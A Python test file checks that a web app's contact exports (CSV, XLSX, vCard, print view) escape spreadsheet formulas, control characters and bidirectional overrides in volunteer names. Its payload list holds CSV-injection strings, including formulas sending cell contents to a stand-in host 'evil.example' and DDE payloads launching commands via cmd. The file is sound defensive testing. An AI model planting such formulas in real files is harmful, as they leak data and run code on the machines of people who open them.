"""No export holds a live formula, a control character or a bidirectional override, whatever people
typed as their name: CSV cells get a leading apostrophe, XLSX cells are text."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import vobject
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.exports import formats
from app.exports.services import FORMATS
from app.models import ConsentPurpose, MembershipStatus

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Details")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "+49 171 1234567",
]
# What a spreadsheet would run: a cell starting (after spaces) with = + - @, or with a tab or CR.
LIVE = re.compile(r"^\s*[=+\-@]|^[\t\r]")
LISTED = (ConsentPurpose.MATCHING, ConsentPurpose.CONTACT_LISTS)


@pytest.fixture
def group(make_group, make_volunteer):
    members = [
        (make_volunteer(payload, email=f"p{n}@example.org", consents=LISTED), MembershipStatus.ACTIVE, n == 0)
        for n, payload in enumerate([*PAYLOADS, "Amal\u202eHaddad\x0b"])
    ]
    return make_group("formulas", name="=Group/[1]", members=members)


def export(coordinator_client, group, fmt) -> bytes:
    response = coordinator_client.get(f"/groups/{group.id}/contacts.{fmt}")
    assert response.status_code == 200
    return response.data


def csv_cells(content: bytes, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def test_every_format_is_covered_here():
    assert set(FORMATS) == {"csv", "csv-semicolon", "xlsx", "vcf", "vcf3", "vcf3-zip"}


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("csv-semicolon", ";")])
def test_csv_cells_never_start_a_formula(coordinator_client, group, fmt, delimiter):
    cells = csv_cells(export(coordinator_client, group, fmt), delimiter)
    assert [cell for cell in cells if LIVE.match(cell)] == []
    assert all("'" + payload in cells for payload in PAYLOADS)
    assert "AmalHaddad" in cells


def test_xlsx_cells_are_text_never_formulas(coordinator_client, group):
    content = export(coordinator_client, group, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    names = {cell.value for cell in workbook.worksheets[0]["A"]}
    assert all(payload.replace("\r", "\n") in names for payload in PAYLOADS)  # XML reads CR as LF
    assert "AmalHaddad" in names and workbook.worksheets[0].title == "=Group  1"


def test_vcards_hold_the_names_as_plain_text(coordinator_client, group):
    cards = list(vobject.readComponents(export(coordinator_client, group, "vcf").decode("utf-8")))
    names = {card.fn.value for card in cards}
    assert '=HYPERLINK("http://evil.example/?"&A2,"Details")' in names and "AmalHaddad" in names
    assert not any("\u202e" in name or "\x0b" in name for name in names)


def test_outlook_vcards_hold_the_names_as_plain_text_in_safe_file_names(coordinator_client, group):
    single = [card.fn.value for card in vobject.readComponents(export(coordinator_client, group, "vcf3").decode())]
    with zipfile.ZipFile(io.BytesIO(export(coordinator_client, group, "vcf3-zip"))) as archive:
        files = archive.namelist()
        zipped = [vobject.readOne(archive.read(name).decode("utf-8")).fn.value for name in files]
    assert sorted(single) == sorted(zipped) and len(files) == len(PAYLOADS) + 1
    assert '=HYPERLINK("http://evil.example/?"&A2,"Details")' in zipped and "AmalHaddad" in zipped
    assert not any("\u202e" in name or "\x0b" in name for name in single)
    # no path, no drive, no reserved character, no control: unpacking writes each file beside the others
    assert all(re.fullmatch(r'[^\\/:*?"<>|\s\x00-\x1f]+\.vcf', name) and not name.startswith(".") for name in files)


def test_the_print_view_escapes_and_isolates_names(coordinator_client, group):
    page = coordinator_client.get(f"/groups/{group.id}/contacts").get_data(as_text=True)
    assert "<bdi>=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A2,&#34;Details&#34;)</bdi>" in page
    assert "\u202e" not in page and "<bdi>AmalHaddad" in page


def table_of(names: list[str]) -> formats.Table:
    contacts = [formats.Contact(name, name, "", name, False, name, name, name) for name in names]
    return formats.Table("=title", ["=a", "+b", "c", "d", "e", "f"], contacts, 0, "@note")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_no_text_whatever_becomes_a_live_cell(names):
    table = table_of(names)
    for delimiter in (",", ";"):
        assert not [cell for cell in csv_cells(formats.as_csv(table, delimiter), delimiter) if LIVE.match(cell)]
    workbook = openpyxl.load_workbook(io.BytesIO(formats.as_xlsx(table)))
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
    formats.as_vcards(table)  # no exception for any text
    formats.as_vcards3(table)
    with zipfile.ZipFile(io.BytesIO(formats.as_vcard3_zip(table))) as archive:
        assert len(set(archive.namelist())) == len(names)
